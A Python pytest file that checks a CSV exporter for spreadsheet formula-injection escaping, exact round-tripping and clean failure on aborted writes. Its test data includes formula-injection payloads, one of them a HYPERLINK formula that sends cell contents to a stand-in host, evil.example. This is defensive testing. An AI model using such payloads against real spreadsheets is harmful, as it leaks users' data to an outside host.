"""CSV files: formula cells escaped, an exact round trip, no file left by a failed write."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from reviewer.export import (
    escape_cell,
    read_csv,
    write_csv,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'quoted already",
    'plain, with "quotes" and a comma',
    "two\nlines",
    "Lucía 名前 🙂",
    "",
    "1-2",
]


def test_formula_cells_get_an_apostrophe_and_round_trip(tmp_path: Path) -> None:
    path = tmp_path / "out" / "cells.csv"
    n = write_csv(path, ["text", "number"], [[text, i] for i, text in enumerate(HOSTILE)])
    assert n == len(HOSTILE)
    # what a spreadsheet would read: every dangerous cell now starts with an apostrophe
    with open(path, encoding="utf-8-sig", newline="") as fh:
        raw = list(csv.reader(fh))
    for (cell, _number), original in zip(raw[1:], HOSTILE, strict=True):
        if original.startswith(("=", "+", "-", "@", "\t", "\r", "'")):
            assert cell == "'" + original
        else:
            assert cell == original
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets detect UTF-8
    header, rows = read_csv(path)
    assert header == ["text", "number"]
    assert [r[0] for r in rows] == HOSTILE
    assert [r[1] for r in rows] == [str(i) for i in range(len(HOSTILE))]


def test_numbers_and_values_are_written_as_data() -> None:
    assert escape_cell(-5) == "-5"  # a number, not a formula
    assert escape_cell(0.25) == "0.25"
    assert escape_cell(None) == ""
    assert escape_cell(True) == "true"
    assert escape_cell("-5") == "'-5"  # text that looks like a formula start is escaped
    assert escape_cell(datetime(2026, 11, 16, 8, 0, tzinfo=UTC)) == "2026-11-16T08:00:00+00:00"


def test_a_failed_write_leaves_no_file(tmp_path: Path) -> None:
    def rows() -> Iterator[list[str]]:
        yield ["ok"]
        raise RuntimeError("the service went away")

    out = tmp_path / "exports"
    with pytest.raises(RuntimeError):
        write_csv(out / "x.csv", ["a"], rows())
    assert list(out.iterdir()) == []
